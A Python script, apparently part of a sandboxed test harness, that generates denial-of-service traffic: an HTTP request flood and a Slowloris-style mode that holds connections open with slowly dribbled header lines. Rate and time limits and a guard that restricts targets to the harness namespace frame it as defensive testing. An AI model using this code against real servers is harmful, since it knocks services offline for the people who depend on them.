#!/usr/bin/python3
"""Attack sender over real TCP connections: many short requests, or connections that are never done asking.

`http`: --rate new connections a second, each asks for the page and reads it. `slow`: --rate connections are held, 50 more
each second until they are that many, and each sends another header line every 3 s; one that the server ends is opened
again. Bounded in connections and time. Runs only inside a network namespace of the harness and only towards its addresses.
"""

import argparse
import asyncio
import json
import os
import resource
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from harness import guard  # noqa: E402

MAX_RATE = 2000
MAX_SECONDS = 120
MAX_OPEN = 1000
FILES = 4096
PATIENCE = 2.0
OPENED_PER_SECOND = 50
LINE_SECONDS = 3.0
TICK_SECONDS = 0.01


def parse(arguments=None):
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--kind", choices=("http", "slow"), required=True)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--rate", type=int, default=500, help="connections a second, or held; 1 to %d" % MAX_RATE)
    parser.add_argument("--duration", type=float, default=10, help="seconds, up to %d" % MAX_SECONDS)
    parser.add_argument("--wait", action="store_true", help="begin when a line arrives on standard input")
    options = parser.parse_args(arguments)
    if not 1 <= options.rate <= (MAX_RATE if options.kind == "http" else MAX_OPEN):
        parser.error("--rate must be between 1 and %d: %d" % (
            MAX_RATE if options.kind == "http" else MAX_OPEN, options.rate))
    if not 0 < options.duration <= MAX_SECONDS:
        parser.error("--duration must be above 0 and at most %d: %g" % (MAX_SECONDS, options.duration))
    return options


class Sender:
    """Makes the connections of one attack."""

    def __init__(self, options):
        self.target, self.port = options.dst, options.port
        self.rate, self.duration = options.rate, options.duration
        self.connected = self.failed = self.left_out = 0
        self.tasks = set()

    def begin(self, work):
        task = asyncio.ensure_future(work)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def connect(self):
        """A connection, or None when nobody answers in time."""
        try:
            streams = await asyncio.wait_for(asyncio.open_connection(self.target, self.port), PATIENCE)
            self.connected += 1
            return streams
        except (OSError, asyncio.TimeoutError):
            self.failed += 1
            return None

    async def request(self):
        streams = await self.connect()
        if streams is None:
            return
        reader, writer = streams
        try:
            writer.write(b"GET / HTTP/1.0\r\nHost: victim\r\n\r\n")
            await asyncio.wait_for(reader.read(), PATIENCE)
        except (OSError, asyncio.TimeoutError):
            self.failed += 1
        finally:
            writer.close()

    async def hold(self):
        while True:
            streams = await self.connect()
            if streams is None:
                continue
            reader, writer = streams
            try:
                writer.write(b"GET / HTTP/1.1\r\nHost: victim\r\n")
                while not reader.at_eof():
                    await asyncio.sleep(LINE_SECONDS)
                    writer.write(b"X-More: 1\r\n")
            except OSError:
                self.failed += 1
            finally:
                writer.close()

    async def run(self, kind):
        start = time.monotonic()
        begun = 0
        while time.monotonic() < start + self.duration:
            gone = time.monotonic() - start
            wanted = int(gone * self.rate) + 1 if kind == "http" else min(self.rate, int(gone * OPENED_PER_SECOND) + 1)
            for _ in range(wanted - begun):
                if len(self.tasks) < MAX_OPEN:
                    self.begin(self.request() if kind == "http" else self.hold())
                else:
                    self.left_out += 1
            begun = wanted
            await asyncio.sleep(TICK_SECONDS)
        for task in list(self.tasks):
            task.cancel()
        await asyncio.gather(*self.tasks, return_exceptions=True)


def main():
    options = parse()
    guard.die_with_parent()
    guard.require_harness_namespace(options.dst)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (FILES if hard == resource.RLIM_INFINITY else min(FILES, hard), hard))
    sender = Sender(options)
    if options.wait:
        print("ready", flush=True)
        sys.stdin.readline()
    asyncio.run(sender.run(options.kind))
    print(json.dumps({"connected": sender.connected, "failed": sender.failed, "left_out": sender.left_out}), flush=True)


if __name__ == "__main__":
    main()
